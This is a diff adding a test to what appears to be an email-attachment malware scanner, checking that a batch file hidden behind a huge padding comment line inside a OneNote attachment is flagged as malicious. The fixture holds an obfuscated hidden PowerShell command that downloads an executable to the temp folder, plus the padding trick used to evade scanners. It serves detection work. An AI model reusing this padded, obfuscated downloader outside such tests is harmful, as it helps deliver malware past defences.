@@ -572,3 +572,17 @@ def test_padded_word_document_that_sniffs_as_doc_is_inflated() -> None:
     )
     assert finding(result, "attachment.inflated").evidence[0].location == "attachment 2/invoice.doc"
     assert result.verdict.label == "malicious"
+
+
+def test_a_batch_file_behind_one_huge_comment_line_is_found() -> None:
+    # The OneNote wave's other shape: a single 340 KB "::" line, then the code; also with
+    # a tail of padding after the code, so that neither the head nor the end shows it.
+    code = b"@echo off\r\nset a=pow\r\nset b=ershell\r\n"
+    code += b"%a%%b% -w hidden -c iwr x -o %temp%\\a.exe\r\n"
+    head = b"::" + b"Qz7" * 113_000 + b"\r\n"
+    tail = b":: padding after the code\r\n" * 2_000
+    for script in (head + code, head + code + tail):
+        assert sniff(script).extensions[:1] == (".bat",)
+        result = scan_bytes(with_attachment(build_one(PNG_1PX, script), "notes.one", OCTET))
+        assert finding(result, "attachment.onenote_embedded").facts()["type"] == "batch"
+        assert result.verdict.label == "malicious"
